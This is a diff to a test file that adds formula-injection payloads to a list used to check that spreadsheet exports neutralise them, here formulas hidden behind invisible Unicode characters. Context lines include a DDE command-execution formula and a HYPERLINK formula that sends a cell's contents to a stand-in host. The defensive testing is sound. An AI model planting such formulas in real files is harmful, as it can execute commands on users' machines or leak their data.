@@ -66,6 +66,8 @@ def test_xlsx_has_numbers_as_numbers_and_a_sources_sheet(small_dataset):
 
 PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
             " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "{=1+1}", "==== Sale ====",
+            # issue 14, kind 7: invisible format characters (category Cf) before the formula
+            "\u2060=1+1", "\u200d=1+1", "\u00ad=1+1", "\u2060\u200d \u00ad@SUM(1,1)", "\U000e0001+1+1", "\u3000=1+1",
             '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
 
 
